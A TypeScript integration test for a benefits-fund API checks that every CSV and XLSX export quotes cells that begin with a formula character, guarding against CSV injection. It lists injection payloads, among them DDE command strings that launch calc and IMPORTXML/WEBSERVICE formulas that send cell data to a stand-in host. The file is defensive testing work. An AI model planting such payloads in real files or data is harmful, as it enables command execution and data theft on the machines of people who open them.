import { buildSaIdNumber } from '@bcp/contract';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { scaled } from '../../../scripts/lib/time-scale.mjs';
import { benefits, claimDocuments, invoices, persons } from '../src/db/schema/index.js';
import { recordBenefits } from '../src/modules/benefits/benefits.service.js';
import { VALIDATE_UPLOAD_QUEUE } from '../src/modules/file-uploads/validate-upload.job.js';
import { createFund } from '../src/modules/funds/funds.service.js';
import { PARTNER_FILE_QUEUE } from '../src/modules/partner-files/build-partner-file.job.js';
import { createPartner } from '../src/modules/partners/partners.service.js';
import { call } from './support/accounts.js';
import { type ClaimingMember, submittedClaim } from './support/claims.js';
import { knownPerson, uploadFileTo } from './support/file-uploads.js';
import { type DocumentedOperation, fileOperations } from './support/openapi-responses.js';
import { createStaff, type Staff } from './support/staff.js';
import { createTestApp, type TestApp } from './support/test-app.js';

/**
 * Issue 34 item 5: no file the product writes carries a cell a spreadsheet would run as a formula
 * (OWASP "CSV injection"). Fund data carrying injection payloads reaches every file; every
 * file-producing route of the served document is downloaded through HTTP and parsed, and no
 * cell may begin with a formula character unless it is quoted (a leading apostrophe).
 */
const PAYLOADS = [
  '=HYPERLINK("http://x","y")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '=1+1',
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "@cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
  '=WEBSERVICE("http://x")',
  '=DDE("cmd";"/C calc";"A0")',
  '\t@SUM(1)',
  '＝1+1',
  '＋1+1',
  '＠SUM(1+1)',
] as const;

/** The claim's member number (the fund's member numbers are unique). */
const CLAIM_MEMBER_NUMBER = '=1+2';

const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/** A cell a spreadsheet would run: a formula character first, and not a plain negative number. */
const executable = (cell: string) => /^[=+\-@\t\r＝＋－＠]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell);

/**
 * The file-producing operations of the served document that are not exports (an export: no path
 * parameter, a `format` of CSV or XLSX; every one is downloaded in both formats, found in the
 * document), with what the test does with each: `walk` downloads its spreadsheets; the others say
 * why their files hold no spreadsheet cells. A new file route fails the test until it is listed.
 */
const OTHER_FILE_ROUTES: Record<string, 'walk' | string> = {
  'GET /api/v1/file-download/{id}/download': 'walk',
  'GET /api/v1/file-uploads/{id}/download':
    'walk (file=errors); file=original is the fund’s file byte for byte, as uploaded, not written by us',
  'GET /api/v1/benefits/{id}/statement': 'a PDF (text on a page, no cells)',
  'GET /api/app/benefit-claims/{id}/statement': 'a PDF (text on a page, no cells)',
  'GET /api/v1/invoices/{id}/pdf': 'a PDF (text on a page, no cells)',
  'GET /api/v1/benefits/claim/{id}/documents/{documentId}': 'the member’s own PDF or image, as uploaded',
  'POST /api/v2/benefitclaim/getdocument': 'the member’s own PDF or image, as uploaded (the staff download’s file)',
};

/** The file routes of the served document: the exports (walked by their path) and the others. */
async function fileRoutes(): Promise<{ exports: string[]; others: string[] }> {
  const document = (await app().inject({ method: 'GET', url: '/api/openapi.json' })).json();
  const routes = fileOperations(document.paths as Record<string, Record<string, DocumentedOperation>>);
  const isExport = ({ path, operation }: (typeof routes)[number]) =>
    !path.includes('{') &&
    'text/csv' in (operation.responses['200']?.content ?? {}) &&
    (operation.parameters ?? []).some((parameter) => parameter.in === 'query' && parameter.name === 'format');
  return {
    exports: routes.filter(isExport).map(({ path }) => path),
    others: routes.filter((route) => !isExport(route)).map(({ name }) => name),
  };
}

let testApp: TestApp;
let staff: Staff;
let fundId: number;
let partnerId: number;
let claimant: ClaimingMember & { claimId: number };
let invoiceId: number;
let uploadId: number;
const app = () => testApp.app;
const SYSTEM = { actor: { type: 'system', label: 'test' } } as const;

/** A member file whose rows are refused (their ID numbers are payloads) and whose cells are payloads. */
function hostileMemberFile(): Buffer {
  const header = ['id_number', 'first_name', 'last_name', 'member_number', 'benefit_type', 'amount', '=SUM(1+1)'];
  const rows = PAYLOADS.map((payload) => [payload, payload, payload, payload, 'withdrawal', '100', payload]);
  return Buffer.from(stringify([header, ...rows], { record_delimiter: '\r\n' }));
}

beforeAll(async () => {
  testApp = await createTestApp();
  staff = await createStaff(app(), 'super-admin');
  fundId = (await createFund(app().db, { name: PAYLOADS[0], registrationNumber: '12/8/34005' })).id;
  partnerId = (await createPartner(app().db, { name: 'Tracer', kind: 'tracing-partner', fundIds: [fundId] }, SYSTEM))
    .id;
  // One person to trace per payload: names and member number from a fund's file.
  for (const [index, payload] of PAYLOADS.entries()) {
    const idNumber = buildSaIdNumber('1975-05-05', 3400 + index);
    const personId = await knownPerson(app(), { idNumber, firstName: payload, lastName: payload });
    await recordBenefits(app().db, [
      { fundId, personId, memberNumber: payload, benefitType: 'withdrawal', amountCents: 10_000, fileUploadId: null },
    ]);
  }
  // A submitted claim of the fund, its member's names and member number payloads.
  claimant = await submittedClaim(app());
  await app()
    .db.update(benefits)
    .set({ fundId, memberNumber: CLAIM_MEMBER_NUMBER })
    .where(eq(benefits.id, claimant.benefitId));
  await app()
    .db.update(persons)
    .set({ firstName: PAYLOADS[2], lastName: PAYLOADS[5] })
    .where(eq(persons.idNumber, claimant.idNumber));
  // A draft invoice of the fund, a negative amount among its cells (a number: left as it is).
  const [invoice] = await app()
    .db.insert(invoices)
    .values({
      kind: 'invoice',
      fundId,
      periodFrom: '2026-01-01',
      periodTo: '2026-01-31',
      recipient: { name: PAYLOADS[3], address: [PAYLOADS[4]], vatNumber: null },
      subtotalCents: -1500,
      vatCents: -225,
      totalCents: -1725,
    })
    .returning({ id: invoices.id });
  invoiceId = invoice?.id as number;
  // A member file of the fund whose every row is refused.
  const mapping = Object.fromEntries(
    ['id_number', 'first_name', 'last_name', 'member_number', 'benefit_type', 'amount'].map((c) => [c, c]),
  );
  const created = await call(app(), 'POST', '/api/v1/file-uploads', {
    token: staff.token,
    body: { fundId, type: 'member_file', mapping },
  });
  expect(created.statusCode, created.body).toBe(201);
  uploadId = created.json().id;
  const uploaded = await uploadFileTo(app(), staff.token, uploadId, 'hostile.csv', hostileMemberFile());
  expect(uploaded.statusCode, uploaded.body).toBe(200);
  await app().jobs.idle([VALIDATE_UPLOAD_QUEUE]);
}, scaled(120_000));
afterAll(async () => testApp.close());

/** Every cell of a downloaded CSV or XLSX, as text (an XLSX formula cell as `=` and its formula). */
async function cellsOf(body: Buffer, contentType: string): Promise<string[]> {
  if (contentType.startsWith('text/csv')) {
    return (parse(body, { bom: true, relax_column_count: true }) as string[][]).flat();
  }
  expect(contentType).toBe(XLSX_TYPE);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(new Uint8Array(body).buffer);
  const cells: string[] = [];
  for (const sheet of workbook.worksheets) {
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        const value = cell.value;
        if (typeof value === 'object' && value !== null && 'formula' in value) cells.push(`=${value.formula}`);
        else if (value !== null && value !== undefined) cells.push(String(value));
      }),
    );
  }
  return cells;
}

/** Downloads `url` (200, a CSV or an XLSX) and answers its cells. */
async function download(url: string): Promise<string[]> {
  const response = await app().inject({ method: 'GET', url, headers: { authorization: `Bearer ${staff.token}` } });
  expect(response.statusCode, `${url}: ${response.body.slice(0, 300)}`).toBe(200);
  return cellsOf(response.rawPayload, String(response.headers['content-type']));
}

/** The partner file built in `format`, as its download route gives it. */
async function partnerFile(format: 'csv' | 'xlsx'): Promise<string[]> {
  const generated = await call(app(), 'GET', `/api/v1/file-download/${partnerId}/generate?format=${format}`, {
    token: staff.token,
  });
  expect(generated.statusCode).toBe(202);
  await app().jobs.idle([PARTNER_FILE_QUEUE]);
  return download(`/api/v1/file-download/${partnerId}/download?file=${generated.json().id}`);
}

describe('issue 34 item 5: no formula cell in any file the product writes', () => {
  it('finds every file-producing route of the served document: the exports, and the others listed', async () => {
    const { exports, others } = await fileRoutes();
    expect(exports).toEqual(
      expect.arrayContaining(['/api/v1/benefits/export', '/api/v1/benefits/claims/export', '/api/v1/invoices/export']),
    );
    expect(others.sort()).toEqual(Object.keys(OTHER_FILE_ROUTES).sort());
  });

  it(
    'walks each spreadsheet route (CSV and XLSX): every injected cell arrives quoted, none executable',
    async () => {
      const files: Record<string, string[]> = {};
      for (const format of ['csv', 'xlsx'] as const) {
        for (const path of (await fileRoutes()).exports)
          files[`${path} ${format}`] = await download(`${path}?format=${format}`);
        files[`partner file ${format}`] = await partnerFile(format);
      }
      files['refused rows csv'] = await download(`/api/v1/file-uploads/${uploadId}/download?file=errors`);

      const quoted = PAYLOADS.map((payload) => `'${payload}`);
      const problems = Object.entries(files).flatMap(([file, cells]) =>
        cells.filter(executable).map((cell) => `${file}: ${JSON.stringify(cell)}`),
      );
      expect(problems).toEqual([]);
      // The payloads reached the files, quoted (the walk is not vacuous): each one where each row holds one.
      // XML reads a CR in a cell back as LF; the member-file reader trims cells (tab and CR go).
      const lf = (cell: string) => cell.replace(/\r/g, '\n');
      const missing = (file: string, expected: readonly string[]) => {
        const cells = new Set(files[file]?.map(lf));
        return expected.filter((cell) => !cells.has(lf(cell))).map((cell) => `${file}: ${JSON.stringify(cell)}`);
      };
      const everywhere = [
        ...['csv', 'xlsx'].flatMap((format) => [
          ...missing(`/api/v1/benefits/export ${format}`, quoted),
          ...missing(`partner file ${format}`, quoted),
          ...missing(`/api/v1/benefits/claims/export ${format}`, [
            quoted[0],
            quoted[2],
            quoted[5],
            `'${CLAIM_MEMBER_NUMBER}`,
          ] as string[]),
          // A plain negative amount stays a number for the spreadsheet.
          ...missing(`/api/v1/invoices/export ${format}`, [quoted[0], '-15.00', '-17.25'] as string[]),
        ]),
        ...missing('refused rows csv', [...PAYLOADS.map((payload) => `'${payload.trim()}`), "'=SUM(1+1)"]),
      ];
      expect(everywhere).toEqual([]);
    },
    scaled(120_000),
  );

  it('the routes that are not walked answer files that are not spreadsheets', async () => {
    const [document] = await app()
      .db.select({ id: claimDocuments.id })
      .from(claimDocuments)
      .where(eq(claimDocuments.claimId, claimant.claimId));
    const answers = [
      [`/api/v1/benefits/${claimant.benefitId}/statement`, staff.token],
      [`/api/app/benefit-claims/${claimant.benefitId}/statement`, claimant.token],
      [`/api/v1/invoices/${invoiceId}/pdf`, staff.token],
      [`/api/v1/benefits/claim/${claimant.claimId}/documents/${document?.id}`, staff.token],
    ] as const;
    for (const [url, token] of answers) {
      const response = await call(app(), 'GET', url, { token });
      expect(response.statusCode, url).toBe(200);
      expect(String(response.headers['content-type']), url).toMatch(/^(application\/pdf|image\/(png|jpeg))/);
    }
  });
});
